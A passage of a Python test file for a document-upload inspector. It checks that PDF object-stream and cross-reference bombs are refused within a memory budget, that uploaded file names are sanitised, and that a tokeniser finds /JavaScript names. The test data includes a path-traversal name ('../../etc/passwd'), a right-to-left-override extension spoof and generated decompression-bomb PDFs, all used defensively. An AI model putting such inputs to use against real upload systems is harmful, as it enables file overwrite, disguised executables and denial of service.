    assert peak < 3 * BUDGET


def test_object_streams_within_the_budget_are_read(tmp_path: Path) -> None:
    data = object_stream_bomb(3, BUDGET // 4, as_lengths=True)
    assert inspect_pdf(tmp_path / "packed.pdf", data)() == 1


def test_a_cross_reference_stream_of_too_many_entries_is_refused_before_they_are_kept(
    tmp_path: Path,
) -> None:
    """A few KB listing 400,000 objects and more: pypdf built its table of every entry before
    the count of objects refused the file."""
    data = xref_stream_pdf({}, {}, extra_rows=inspection._MAX_XREF_ENTRIES)
    assert len(data) < 50_000
    outcome, peak = peak_of(inspect_pdf(tmp_path / "xref.pdf", data, max_bytes=MAX))
    assert peak < 16 * 1024 * 1024
    assert outcome == PDF_INVALID


# --- stored names -------------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("filename", "kind", "expected"),
    [
        ("scan.exe", Kind.PDF, "scan.pdf"),
        ("photo", Kind.JPEG, "photo.jpg"),
        ("photo.JPEG", Kind.JPEG, "photo.jpg"),
        ("passport.png", Kind.JPEG, "passport.jpg"),
        ("scan.pdf", Kind.PDF, "scan.pdf"),
        ("../../etc/passwd", Kind.PDF, "passwd.pdf"),
        ("C:\\Users\\me\\scan.PDF", Kind.PDF, "scan.pdf"),
        ("", Kind.PNG, "document.png"),
        ("...", Kind.PDF, "document.pdf"),
        ("x.", Kind.PNG, "x.png"),
        ("جواز السفر.pdf", Kind.PDF, "جواز السفر.pdf"),
        ("صورة الهوية", Kind.JPEG, "صورة الهوية.jpg"),
        ("Report v1.2 final", Kind.PDF, "Report v1.2 final.pdf"),
        ("v1.2", Kind.PDF, "v1.2.pdf"),
        ("archive.tar.gz", Kind.PDF, "archive.tar.pdf"),
        ("invoice.pdf.exe", Kind.PDF, "invoice.pdf.pdf"),
        ("invoice\u202egpj.exe", Kind.PDF, "invoicegpj.pdf"),
        ("bad<name>:*?.jpg", Kind.JPEG, "bad_name____.jpg"),
        ("tabs\tand\nnewlines.png", Kind.PNG, "tabsandnewlines.png"),
    ],
)
def test_the_stored_name_carries_the_detected_extension(
    filename: str, kind: Kind, expected: str
) -> None:
    assert stored_name(filename, kind) == expected


@pytest.mark.parametrize("kind", list(Kind))
def test_a_long_stored_name_is_cut_and_keeps_its_extension(kind: Kind) -> None:
    name = stored_name("ا" * 300 + ".exe", kind)
    assert len(name) <= MAX_FILENAME
    assert name.endswith("." + EXTENSIONS[kind])
    assert name.startswith("ا" * 200)


def test_the_raw_scan_finds_the_tokens_the_plain_three_branch_pattern_finds() -> None:
    """_raw_tokens is written for speed; it must tokenise exactly as the readable form does."""
    readable = re.compile(
        rb"(?P<end>endstream)"
        rb"|(?P<stream>[\s>]stream(?:\r\n|\n|\r))"
        rb"|/(?P<name>[^\x00\t\n\f\r /<>\[\](){}%]{0,128})"
    )
    rng = random.Random(12)
    pieces = [
        b"endstream", b" stream\r\n", b">stream\n", b"\tstream\r", b"\x0bstream\n", b"stream\n",
        b"/JavaScript", b"/JS", b"/", b"//", b"/Ja#76aScript", b"e", b"ee", b"xendstream",
        b"\x0cstream\r\n", b"/" + b"N" * 140, b" ", b"%", b"(", b"\x00",
        b"end", b"stream", b"\r", b"\n", b">", b"/Xend", b"/" + b"N" * 127, b"/" + b"N" * 126,
    ]  # fmt: skip
    corpus = [
        *(b"".join(rng.choice(pieces) for _ in range(2000)) for _ in range(20)),
        rng.randbytes(200_000),
        minimal_pdf(unlisted=b"%" + b"x" * 5000 + b"\n"),
    ]

    for data in corpus:
        expected = [(m.start(), m.end(), m.lastgroup) for m in readable.finditer(data)]
        assert expected
        assert list(inspection._raw_tokens(data)) == expected
